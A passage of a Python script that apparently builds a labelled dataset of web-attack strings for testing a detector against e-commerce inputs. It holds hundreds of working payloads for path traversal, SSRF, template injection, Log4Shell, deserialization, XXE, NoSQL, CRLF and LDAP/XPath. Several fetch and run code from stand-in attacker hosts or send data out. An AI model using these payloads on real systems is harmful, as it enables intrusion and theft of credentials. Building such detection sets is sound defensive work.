        ("attachment-download-windows-absolute-appsettings", "C:\\inetpub\\shop\\appsettings.Production.json"),
        ("report-file-k8s-serviceaccount-token", "../../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
        ("theme-file-git-config", "../../.git/config"),
        ("composer-auth-json-magento-keys", "../../../auth.json"),
        ("drupal-commerce-settings-php", "../../../sites/default/settings.php"),
        ("solidus-master-key", "../../../config/master.key"),
        ("rails-database-yml", "../../config/database.yml"),
        ("laravel-passport-private-key", "../../storage/oauth-private.key"),
        ("label-template-proc-self-cwd-env", "/proc/self/cwd/.env"),
        ("static-asset-nginx-conf", "../../../../etc/nginx/nginx.conf"),
        ("basic-auth-htpasswd", "../../.htpasswd"),
        ("invoice-latex-input-passwd", "\\input{/etc/passwd}"),
        ("liquid-snippet-include-dotdot-passwd", "{% include '../../../../../etc/passwd' %}"),
        ("invoice-download+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fapp%2fetc%2fenv.php"),
        ("export-download+double-urlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252f.env"),
        ("attachment-name+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
        ("image-path-nested-strip+dotdot-nested", "....//....//....//etc/passwd"),
        ("invoice-download-backslash+urlenc", "..%5c..%5c..%5cweb.config"),
        ("invoice-download-extension-check+null-byte", "../../../../etc/passwd%00.pdf"),
        ("tomcat-static-path-param-semicolon", "/static/..;/..;/WEB-INF/web.xml"),
        ("iis-media-path+unicode-slash", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
        ("export-download-mixed-separators", "..\\/..\\/..\\/etc/passwd"),
        ("cms-page-template-dotdot-ssh-key", "../../../../home/www-data/.ssh/id_rsa"),
        ("product-feed-export-path-shopware-env", "../../../../var/www/shopware/.env"),
        ("backup-restore-archive-path-sudoers", "backup/../../../../etc/sudoers.d/shop"),
        ("seller-document-download-windows-win-ini", "..\\..\\..\\..\\Windows\\win.ini"),
        ("plugin-upload-zip-entry-functions-php", "theme/../../../wp-content/themes/storefront/functions.php"),
        ("plain-dotdot-passwd", "../../../../etc/passwd"),
        ("plain-absolute-passwd", "/etc/passwd"),
        ("plain-windows-dotdot-hosts", "..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts"),
        ("plain-urlenc-dotdot+urlenc", "%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
        ("plain-dotdot-proc-version", "../../../proc/version"),
        ("plain-dotdot-win-ini", "../../../../../../windows/win.ini"),
    ]
    bases = ["invoices/", "exports/", "labels/", "media/catalog/product/", "attachments/2024/05/", "feeds/"]
    targets = ["etc/passwd", "app/etc/env.php", ".env", "wp-config.php", "config/parameters.php", "proc/self/environ",
               "var/www/.ssh/id_rsa", "storage/logs/laravel.log"]

    def gen():
        depth = RNG.randint(3, 8)
        return "%sdownload-dotdot-%d" % (pick(["invoice-", "export-", "label-", "attachment-"]), depth), pick(bases) + "../" * depth + pick(targets)
    return take("traversal", lit, gen, 53)


# ====================================================================== ssrf
def ssrf():
    lit = [
        ("product-image-url-aws-iam-credentials", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("import-feed-url-aws-user-data", "http://169.254.169.254/latest/user-data"),
        ("order-webhook-json-gcp-token-header", '{"topic":"orders/create","address":"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token","headers":{"Metadata-Flavor":"Google"}}'),
        ("order-webhook-json-azure-imds-token", '{"topic":"orders/paid","address":"http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net","headers":{"Metadata":"true"}}'),
        ("avatar-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
        ("review-import-url-ecs-task-credentials", "http://169.254.170.2/v2/credentials/"),
        ("image-url-digitalocean-metadata", "http://169.254.169.254/metadata/v1.json"),
        ("image-url-openstack-metadata", "http://169.254.169.254/openstack/latest/meta_data.json"),
        ("shipping-rate-callback-k8s-api-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
        ("import-feed-url-kubelet-pods", "https://10.0.0.5:10250/pods"),
        ("product-image-url-elasticsearch-indices", "http://127.0.0.1:9200/_cat/indices?v"),
        ("link-preview-url-solr-cores", "http://localhost:8983/solr/admin/cores?action=STATUS&wt=json"),
        ("import-feed-url-internal-admin", "http://localhost/admin/sales/order/"),
        ("webhook-url-consul-kv-recurse", "http://127.0.0.1:8500/v1/kv/?recurse"),
        ("image-url-docker-api-containers", "http://127.0.0.1:2375/containers/json?all=1"),
        ("import-feed-url-file-passwd", "file:///etc/passwd"),
        ("avatar-url-file-proc-environ", "file:///proc/self/environ"),
        ("image-url-gopher-redis-cron", "gopher://127.0.0.1:6379/_" + q(resp("SET", "x", "\n\n*/1 * * * * curl -s attacker.example/r|sh\n\n") + resp("CONFIG", "SET", "dir", "/var/spool/cron/crontabs") + resp("CONFIG", "SET", "dbfilename", "root") + resp("SAVE"))),
        ("feed-url-gopher-memcached-stats", "gopher://127.0.0.1:11211/_stats%0d%0aquit%0d%0a"),
        ("image-url-dict-redis-info", "dict://127.0.0.1:6379/info"),
        ("feed-url-java-jar-scheme", "jar:http://attacker.example/feed.zip!/products.xml"),
        ("feed-url-java-netdoc-passwd", "netdoc:///etc/passwd"),
        ("feed-url-php-filter-base64-env", "php://filter/convert.base64-encode/resource=/var/www/html/app/etc/env.php"),
        ("invoice-note-pdf-renderer-iframe-file", '<iframe src="file:///etc/passwd" width="800" height="1000"></iframe>'),
        ("invoice-note-pdf-renderer-img-imds", '<img src="http://169.254.169.254/latest/meta-data/iam/security-credentials/shop-role">'),
        ("product-description-esi-include-metadata", '<esi:include src="http://169.254.169.254/latest/meta-data/"/>'),
        ("image-url-aws-metadata+decimal-ip", "http://2852039166/latest/meta-data/"),
        ("image-url-aws-metadata+hex-ip", "http://0xA9FEA9FE/latest/meta-data/iam/security-credentials/"),
        ("image-url-aws-metadata+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
        ("image-url-aws-metadata+short-form-ip", "http://169.254.43518/latest/user-data"),
        ("avatar-url-aws-metadata+ipv6-mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
        ("webhook-url-loopback+zero-ip", "http://0:8080/actuator/env"),
        ("image-url-loopback+short-form-ip", "http://127.1:9200/_search?q=*"),
        ("feed-url-dns-rebinding-host", "http://imds.rebind.attacker.example/latest/meta-data/"),
        ("image-url-userinfo-confusion-metadata", "http://cdn.example-shop.com@169.254.169.254/latest/meta-data/"),
        ("image-url-fragment-confusion", "http://169.254.169.254#@cdn.example-shop.com/i/1.jpg"),
        ("image-url-allowlist-suffix-bypass", "https://cdn.example-shop.com.attacker.example/redirect-to-imds.jpg"),
        ("image-url-open-redirect-to-metadata", "https://attacker.example/r?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
        ("avatar-url-metadata+urlenc-host", "http://%31%36%39.%32%35%34.%31%36%39.%32%35%34/latest/meta-data/"),
        ("image-url-metadata+unicode-circled-digits", "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/"),
        ("product-image-path-windows-unc-ntlm", "\\\\203.0.113.9\\share\\logo.png"),
        ("oembed-url-internal-payment-service", "http://payments.internal.svc.cluster.local:8080/admin/refunds?status=all"),
        ("sitemap-submit-url-rabbitmq-api", "http://guest:guest@10.0.4.20:15672/api/definitions"),
        ("import-feed-url-ldap-scheme", "ldap://127.0.0.1:389/dc=shop,dc=internal??sub?(objectClass=*)"),
        ("webhook-url-oracle-cloud-metadata", "http://169.254.169.254/opc/v2/instance/"),
        ("plain-aws-metadata", "http://169.254.169.254/latest/meta-data/"),
        ("plain-localhost-admin", "http://localhost/admin"),
        ("plain-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/"),
        ("plain-file-scheme-hosts", "file:///etc/hosts"),
        ("plain-loopback-port", "http://127.0.0.1:6379/"),
        ("plain-ipv6-loopback", "http://[::1]/"),
    ]
    internal = ["http://10.0.%d.%d:%d%s", "http://192.168.%d.%d:%d%s", "http://172.16.%d.%d:%d%s"]
    svc = [(9200, "/_all/_search?size=1000"), (8500, "/v1/agent/self"), (5984, "/_all_dbs"), (15672, "/api/users"),
           (8080, "/actuator/heapdump"), (4040, "/api/v1/applications")]
    ctxs = ["product-image-url", "import-feed-url", "order-webhook-url", "avatar-url"]

    def gen():
        port, path = pick(svc)
        return "%s-internal-service-%d" % (pick(ctxs), port), pick(internal) % (RNG.randint(0, 20), RNG.randint(2, 250), port, path)
    return take("ssrf", lit, gen, 53)


# ====================================================================== code
def code():
    pickle_txt = "csubprocess\ngetoutput\n(S'curl -s http://attacker.example/pk | sh'\ntR."
    php_cls = "Shop\\Cache\\FileCacheItem"
    php_obj = 'O:%d:"%s":2:{%s%s%s%s}' % (len(php_cls), php_cls, php_s("path"), php_s("/var/www/html/pub/media/c.php"),
                                         php_s("content"), php_s("<?php system($_GET['c']); ?>"))
    lit = [
        # Jinja2
        ("gift-message-jinja2-cycler-globals-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("gift-message-jinja2-lipsum-popen-curl", "Happy birthday! {{ lipsum.__globals__['os'].popen('curl -s attacker.example/j|sh').read() }}"),
        ("email-template-jinja2-template-reference-env", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('cat /app/.env').read() }}"),
        ("gift-message-jinja2-request-application-import", "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
        ("order-confirmation-jinja2-config-dump", "Thanks for your order! {{ config.items() }}"),
        ("gift-message-jinja2-flask-secret-key", "{{ get_flashed_messages.__globals__['current_app'].config['SECRET_KEY'] }}"),
        ("seller-template-jinja2-subclasses-popen-loop", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['id'], stdout=-1).communicate()[0] }}{% endif %}{% endfor %}"),
        ("gift-message-jinja2-attr-chain+hex-escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
        ("gift-message-jinja2-join-underscore-bypass", "{{ lipsum|attr(['_'*2,'globals','_'*2]|join)|attr('get')('os')|attr('popen')('id')|attr('read')() }}"),
        ("gift-message-jinja2-index-key+unicode-escape", "{{ lipsum['\\u005f\\u005fglobals\\u005f\\u005f'].os.popen('id').read() }}"),
        ("gift-message-chinese-jinja2-lipsum", "生日快乐！{{ lipsum.__globals__.os.popen('id').read() }}"),
        # Twig
        ("product-description-twig-filter-system", "{{ ['id']|filter('system') }}"),
        ("seller-template-twig-map-passthru", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
        ("email-template-twig1-undefined-filter-callback", "{{ _self.env.registerUndefinedFilterCallback(\"exec\") }}{{ _self.env.getFilter(\"curl -s attacker.example/tw|sh\") }}"),
        ("product-description-twig-reduce-system", "{{ [0]|reduce('system','id') }}"),
        ("cms-block-twig-set-map-shell-exec", "{% set a = ['id']|map('shell_exec') %}{{ a|join }}"),
        # FreeMarker / Velocity / Java
        ("order-email-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
        ("order-email-freemarker-objectconstructor-processbuilder", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"sh\",\"-c\",\"curl -s attacker.example/fm|sh\"]).start()}"),
        ("seller-template-velocity-runtime-exec", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
        ("email-template-velocity-classtool-exec", "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"curl -s attacker.example/vt\").waitFor()"),
        ("storefront-lang-param-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
        ("promotion-name-spel-runtime-exec", "#{T(java.lang.Runtime).getRuntime().exec('curl -s attacker.example/sp')}"),
        ("storefront-param-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
        ("promotion-rule-mvel-runtime-exec", "order.subTotal.amount > 50 && Runtime.getRuntime().exec(\"curl -s attacker.example/mv\") != null"),
        ("jsp-review-java-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
        ("email-template-groovy-gstring-execute", "${\"curl -s attacker.example/gr\".execute().text}"),
        # JS / Ruby / PHP / Python / .NET engines
        ("gift-message-jsrender-function-constructor", "{{:\"x\".toString.constructor.call({},\"return global.process.mainModule.constructor._load('child_process').execSync('id').toString()\")()}}"),
        ("gift-message-erb-backticks", "<%= `id` %>"),
        ("packing-slip-erb-file-read", "<%= File.read('/etc/passwd') %>"),
        ("spree-email-erb-system", "<%= system(\"curl -s attacker.example/erb|sh\") %>"),
        ("seller-template-ejs-child-process", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
        ("seller-template-pug-interpolation", "p Hello #{global.process.mainModule.require('child_process').execSync('id')}"),
        ("gift-message-nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
        ("prestashop-template-smarty-if-system", "{if system('id')}{/if}"),
        ("gift-message-mako-import-popen", "${__import__('os').popen('id').read()}"),
        ("gift-message-tornado-import-os", "{% import os %}{{ os.popen('id').read() }}"),
        ("email-template-razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c powershell -c iwr http://203.0.113.20/r.ps1|iex\")"),
        ("price-formula-python-eval-import", "cost * 2.2 + __import__('os').system('id')"),
        ("price-formula-node-function-constructor", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
        ("gift-message-python-format-string-secret", "Dear {customer.__init__.__globals__[app].secret_key}"),
        ("shipping-rate-formula-php-eval", "[qty]*2; system('id'); //"),
        # Log4Shell
        ("review-user-agent-log4shell-ldap", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${jndi:ldap://203.0.113.15:1389/ua}"),
        ("order-note-log4shell-ldap", "Please leave at door ${jndi:ldap://exfil.attacker.example/o}"),
        ("search-query-log4shell-dns-env-exfil", "${jndi:dns://${env:DB_PASSWORD}.exfil.attacker.example}"),
        ("review-title-log4shell-rmi+lower-nesting", "${${lower:j}ndi:${lower:r}mi://203.0.113.15/cart}"),
        ("coupon-code-log4shell+default-value-nesting", "${${::-j}${::-n}${::-d}${::-i}:ldap://c2.attacker.example/a}"),
        ("support-chat-log4shell+env-default-nesting", "hi ${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//attacker.example/a}"),
        # Deserialization
        ("cart-cookie-python-pickle+base64", b64(pickle_txt)),
        ("cart-cookie-php-object-injection", php_obj),
        ("cart-cookie-php-object-injection+urlenc", q(php_obj)),
        ("cart-cookie-node-serialize-iife", '{"cart":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'curl -s attacker.example/ns|sh\')}()"}'),
        ("cart-api-jsonnet-type-objectdataprovider", '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c powershell -c iwr http://203.0.113.20/n.ps1|iex"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}'),
        ("order-api-fastjson-jdbcrowset", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.15:1389/Cart","autoCommit":true}'),
        ("cart-api-jackson-logback-h2-runscript", '["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM \'http://attacker.example/cart.sql\'"}]'),
        ("product-import-yaml-pyyaml-apply-system", "- sku: TS-BLK-M\n  title: !!python/object/apply:os.system [\"curl -s attacker.example/y|sh\"]\n  price: 19.99"),
        ("product-import-yaml-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
        ("avatar-path-phar-deserialization", "phar:///var/www/html/pub/media/customer/avatar/evil.jpg/x"),
        # XXE / XSLT
        ("product-feed-xxe-file-passwd", '<?xml version="1.0"?><!DOCTYPE products [<!ENTITY sku SYSTEM "file:///etc/passwd">]><products><product><sku>&sku;</sku><title>Linen Shirt</title></product></products>'),
        ("google-feed-xxe-oob-parameter-entity", '<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY % remote SYSTEM "http://attacker.example/feed.dtd"> %remote; %send;]><rss xmlns:g="http://base.google.com/ns/1.0"><channel><item><g:id>88123</g:id></item></channel></rss>'),
        ("product-feed-xinclude-hosts", '<product xmlns:xi="http://www.w3.org/2001/XInclude"><sku>88123</sku><description><xi:include href="file:///etc/hosts" parse="text"/></description></product>'),
        ("product-image-svg-xxe-env-php", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY k SYSTEM "file:///var/www/html/app/etc/env.php">]><svg xmlns="http://www.w3.org/2000/svg" width="400" height="100"><text x="0" y="20">&k;</text></svg>'),
        ("rss-import-xxe-php-filter-wp-config", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/wp-config.php">]><rss><channel><item><title>&e;</title></item></channel></rss>'),
        ("stock-feed-xxe-metadata-fetch", '<?xml version="1.0"?><!DOCTYPE stock [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]><stock><item sku="TS-1" qty="3">&m;</item></stock>'),
        ("feed-transform-xslt-php-function", '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"><xsl:value-of select="php:function(\'shell_exec\',\'id\')"/></xsl:template></xsl:stylesheet>'),
        # Prototype pollution
        ("cart-update-json-proto-is-admin", '{"items":[{"sku":"TS-BLK-M","qty":1}],"__proto__":{"isAdmin":true}}'),
        ("checkout-query-constructor-prototype-discount", "?constructor[prototype][discountPercent]=100&sku=TS-BLK-M"),
        ("cart-update-proto-execargv-rce", '{"coupon":"SAVE10","__proto__":{"execArgv":["--eval=require(\'child_process\').execSync(\'curl -s attacker.example/pp|sh\')"]}}'),
        ("settings-json-constructor-prototype-ejs-outputfunction", '{"constructor":{"prototype":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');x"}}}'),
        # CSV formula injection
        ("customer-name-csv-export-hyperlink-exfil", '=HYPERLINK("https://attacker.example/?d="&C2&D2,"Click for refund status")'),
        ("review-title-csv-export-dde-powershell", "=cmd|'/c powershell -w hidden -c iwr http://203.0.113.20/x.ps1|iex'!A1"),
        ("order-note-csv-export-at-sum-dde", "@SUM(2*3)*cmd|'/c mshta http://203.0.113.20/h.hta'!B2"),
        ("company-name-csv-export-sheets-importxml", '+IMPORTXML(CONCAT("https://attacker.example/x?",A2:F40),"//a")'),
        ("gift-message-csv-export-minus-dde", "-3+5+cmd|'/c whoami > %TEMP%\\w.txt'!Z9"),
        ("address-line-csv-export-webservice", '=WEBSERVICE("https://attacker.example/?"&ENCODEURL(B2&";"&C2))'),
        ("plain-jinja2-config", "{{config}}"),
        ("plain-freemarker-execute-inline", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
        ("plain-erb-id", "<%= `whoami` %>"),
        ("plain-log4shell-ldap", "${jndi:ldap://203.0.113.15/a}"),
        ("plain-proto-polluted", '{"__proto__":{"polluted":true}}'),
        ("plain-csv-dde-calc", "=cmd|'/c calc'!A1"),
        ("plain-jinja2-subclasses", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ]

    def gen():
        raise SystemExit("code: literals only")
    return take("code", lit, gen, len(lit))


# ====================================================================== nosqli
def nosqli():
    lit = [
        ("login-json-password-ne-null", '{"email":"admin@example-shop.com","password":{"$ne":null}}'),
        ("login-form-ne-operators", "email[$ne]=x&password[$ne]=x"),
        ("coupon-lookup-regex-enumeration", "code[$regex]=^VIP&code[$options]=i"),
        ("coupon-lookup-json-in-staff-codes", '{"code":{"$in":["STAFF50","VIP100","INTERNAL-100"]}}'),
        ("order-lookup-email-gt-empty", '{"orderId":"48213","email":{"$gt":""}}'),
        ("product-filter-where-sleep", '{"$where":"sleep(5000) || true"}'),
        ("sku-where-string-breakout-price", "a' || this.price < 1 || 'a'=='b"),
        ("review-filter-where-string-breakout-loop", "x'; var d=new Date(); do{}while(new Date()-d<6000); var y='"),
        ("order-search-expr-function-sleep", '{"$expr":{"$function":{"body":"function(){sleep(6000);return true}","args":[],"lang":"js"}}}'),
        ("report-pipeline-lookup-users", '[{"$lookup":{"from":"users","localField":"seller_id","foreignField":"_id","as":"u"}},{"$project":{"u.password":1,"u.email":1}}]'),
        ("login-form-regex-blind-password", "username[$regex]=^adm&password[$regex]=^a"),
        ("product-search-es-query-string-hidden-fields", '{"query":{"query_string":{"query":"shoes OR (visibility:private AND cost_price:*)"}}}'),
        ("customer-filter-or-exists", '{"$or":[{"role":"admin"},{"_id":{"$exists":true}}]}'),
        ("sku-filter-nin-dump", "filter[sku][$nin][]=x"),
        ("couchdb-mango-selector-password-regex", '{"selector":{"type":"user","password":{"$regex":"^a"}},"fields":["email","password"]}'),
        ("password-reset-regex-token-not-null", '{"email":{"$regex":".*","$options":"i"},"resetToken":{"$ne":null}}'),
        ("product-where-password-prefix-match", '{"$where":"this.owner && this.owner.password.match(/^a/)"}'),
        ("gift-card-balance-json-gt", '{"giftCard":{"$gt":""},"pin":{"$gt":""}}'),
        ("order-lookup+urlenc-bracket", "orderId=48213&email%5B%24ne%5D=nobody"),
        ("es-search-lucene-wildcard-all-docs", "q=*:*&size=10000"),
        ("cart-filter-where-js-exfil-timing", '{"$where":"if(this.email==\'admin@example-shop.com\'&&this.password[0]==\'a\'){sleep(4000)};return true"}'),
        ("plain-ne-1", '{"$ne":1}'),
        ("plain-bracket-gt", "password[$gt]="),
        ("plain-gt-empty", '{"$gt":""}'),
    ]
    users = ["admin", "seller", "support", "ops"]

    def gen():
        return "login-form-regex-blind-prefix", "username=%s&password[$regex]=^%s" % (pick(users), "".join(pick("abcdef0123456789") for _ in range(RNG.randint(1, 4))))
    return take("nosqli", lit, gen, 27)


# ====================================================================== crlf
def crlf():
    lit = [
        ("order-note-log-forgery-admin-login", "Leave at door\r\n2024-05-03 12:00:01 INFO admin login ok user=admin ip=10.0.0.1"),
        ("gift-message-mail-header-bcc", "Happy bday!\r\nBcc: list@attacker.example"),
        ("customer-name-mail-body-injection", "Jane Doe\r\nContent-Type: text/html\r\n\r\n<h1>Your account is suspended</h1><a href=\"https://attacker.example/verify\">Verify now</a>"),
        ("contact-form-email-reply-to-bcc", "jane@example.com\nBcc: a@attacker.example,b@attacker.example"),
        ("login-return-to-set-cookie+urlenc", "/account%0d%0aSet-Cookie:%20session=FAKESESSION123;%20Path=/"),
        ("invoice-filename-content-disposition-splitting", "invoice-48213.pdf\"\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>"),
        ("storefront-lang-header-host-override", "de-DE\r\nX-Forwarded-Host: attacker.example"),
        ("order-webhook-custom-header-admin", "Bearer FAKE-TOKEN\r\nX-Admin-Override: 1"),
        ("review-text-csv-log-row-forgery", "Great\n48214,2024-05-03,refund,999.00,approved"),
        ("support-chat-json-log-field-forgery", "jane\",\"level\":\"INFO\",\"msg\":\"refund approved\",\"amount\":\"999.00"),
        ("order-email-smtp-rcpt-injection", "jane@example.com>\r\nRCPT TO:<victim@attacker.example"),
        ("cart-id-redis-protocol-injection", "cart:48213\r\nSET session:admin FAKEADMIN\r\n"),
        ("product-cache-key-memcached-injection", "product_88123\r\nset session:admin 0 3600 4\r\nroot"),
        ("utm-campaign-cookie-set-cookie+urlenc", "spring%0d%0aSet-Cookie:%20role=admin"),
        ("support-ticket-subject-bcc-newline", "Refund request\nBcc: all-staff-copy@attacker.example"),
        ("redirect-param-location+double-urlenc", "/cart%250d%250aLocation:%2520https://attacker.example/"),
        ("order-note-log-forgery+unicode-line-separator", "ring twice\u2028[INFO] payment captured order=48213 amount=0.00"),
        ("delivery-instructions-log-forgery+nel", "knock softly\u0085WARN fraud check bypassed by admin"),
        ("search-query-log-forgery+json-unicode-escape", "shoes\\u000d\\u000a127.0.0.1 - admin [03/May/2024] \"GET /admin HTTP/1.1\" 200"),
        ("coupon-code-header+utf8-crlf-trick", "SAVE20%E5%98%8A%E5%98%8DSet-Cookie:%20promo=ALL100"),
        ("review-author-ansi-escape-terminal", "Jane\u001b[2J\u001b[1;1HAll reviews approved\u001b[0m"),
        ("customer-name-mail-from-cc-german", "Müller\r\nCc: bestellungen@attacker.example\r\nSubject: Rechnung"),
        ("tracking-url-param-response-splitting", "1Z4F82E7%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<h1>Order refunded</h1>"),
        ("gift-message-mail-header-reply-to-japanese", "お誕生日おめでとう\r\nReply-To: support@attacker.example"),
        ("order-note-syslog-forgery", "deliver after 5pm\n<34>May  3 12:00:00 shop-web01 sudo: www-data : TTY=unknown ; PWD=/ ; USER=root ; COMMAND=/bin/sh"),
        ("export-filename-header-newline-cookie", "orders.csv\nSet-Cookie: admin=1; Path=/"),
        ("newsletter-email-smtp-data-injection", "jane@example.com\r\nDATA\r\nSubject: Your refund\r\n\r\nClick https://attacker.example/refund\r\n.\r\n"),
        ("seller-name-log-forgery+urlenc-lf", "Acme%0aINFO payout account changed seller=1024 iban=XX00ATTACKER"),
        ("plain-crlf-set-cookie", "%0d%0aSet-Cookie:x=1"),
        ("plain-crlf-location", "\r\nLocation: https://attacker.example"),
        ("plain-lf-injected-header", "%0aInjected: 1"),
    ]
    ctxs = ["order-note", "gift-message", "delivery-instructions", "review-author"]
    forged = ["INFO refund approved order=%d by=%s", "INFO user=%s role changed to admin", "AUDIT price override sku=TS-%d by=%s"]

    def gen():
        f = pick(forged)
        tail = f % ((pick(["admin", "support", "ops"]),) if f.count("%") == 1 else (RNG.randint(10000, 99999), pick(["admin", "root"])))
        return pick(ctxs) + "-log-forgery", "%s%s%s" % (pick(["ok", "thanks", "leave at door", "Jane"]), pick(["\r\n", "\n", "%0d%0a", "%0a"]), tail)
    return take("crlf", lit, gen, 32)


# ====================================================================== ldap-xpath
def ldap_xpath():
    lit = [
        ("b2b-customer-lookup-mail-wildcard", "jane*)(mail=*"),
        ("b2b-company-lookup-or-always-true", "Acme*)(|(objectClass=*"),
        ("seller-sso-lookup-closing-or", "*)(cn=*))(|(cn=*"),
        ("seller-sso-login-not-false-bypass", "admin)(!(&(1=0"),
        ("staff-directory-phone-leak", "*)(|(givenName=*)(telephoneNumber=*"),
        ("staff-lookup-manager-group", "x)(|(employeeType=manager"),
        ("customer-lookup-description-password-note", "*))(|(description=*password*"),
        ("b2b-login-uid-or-wildcard", "buyer)(uid=*))(|(uid=*"),
        ("customer-lookup-group-membership-bypass", "jdoe)(memberOf=cn=shop-admins,ou=groups,dc=shop,dc=example"),
        ("customer-lookup-german-wildcard", "Schäfer*)(|(postalAddress=*"),
        ("b2b-lookup-or+urlenc", q("*)(|(userPassword=*")),
        ("product-feed-xpath-sku-tautology", "88123' or '1'='1"),
        ("product-feed-xpath-union-supplier-cost", "'] | //supplier/cost | //product['"),
        ("merchant-config-xpath-blind-secret-char", "x' or substring(//merchant/apiSecret,1,1)='a' and '1'='1"),
        ("merchant-config-xpath-secret-length", "' or string-length(//merchant/apiSecret)>10 or 'a'='b"),
        ("product-feed-xpath-all-nodes", "1]|//*|//*[1"),
        ("customer-xml-xpath-admin-password-blind", "x' or //customer[email='admin@example-shop.com']/password[starts-with(.,'a')] or 'a'='b"),
        ("catalog-xml-xpath-root-name", "x' or name(/*[1])='catalog' or 'a'='b"),
        ("order-xml-xpath-count-orders", "' or count(//order)>1000 or '"),
        ("plain-ldap-star-or", "*)(|(cn=*"),
        ("plain-xpath-or-quote", "' or ''='"),
    ]
    users = ["admin", "buyer01", "seller", "jdoe", "procurement"]

    def gen():
        u = pick(users)
        return "b2b-login-ldap-blind-password-prefix", "%s)(userPassword=%s*" % (u, "".join(pick("abcdefgh0123456789") for _ in range(RNG.randint(1, 4))))
    return take("ldap-xpath", lit, gen, 22)


CATEGORIES = [
    ("sqli", sqli),
    ("xss", xss),
    ("cmdi", cmdi),
    ("traversal", traversal),
    ("ssrf", ssrf),
    ("code", code),
    ("nosqli", nosqli),
    ("crlf", crlf),
    ("ldap-xpath", ldap_xpath),
]


def main():
    rows, counts = [], {}
    for cat, fn in CATEGORIES:
        items = fn()
        counts[cat] = len(items)
        rows.extend((cat, cls, v) for cls, v in items)
    assert len(set(v for _, _, v in rows)) == len(rows), "duplicate value"
    if BENIGN.exists():
        with BENIGN.open(encoding="utf-8") as f:
            benign_values = set(json.loads(line)["value"] for line in f)
        both = [v for _, _, v in rows if v in benign_values]
        assert not both, "value in both files: %r" % both[:3]
    with OUT.open("w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "ha24-%05d" % i, "category": cat, "class": cls, "label": "attack",
                                "value": v}, ensure_ascii=False) + "\n")
    for cat, _ in CATEGORIES:
        print("%-10s %d  (literals %d)" % (cat, counts[cat], LITERAL_COUNTS[cat]))
    print("%-10s %d  (literals %d)" % ("total", len(rows), sum(LITERAL_COUNTS.values())))


if __name__ == "__main__":
    main()
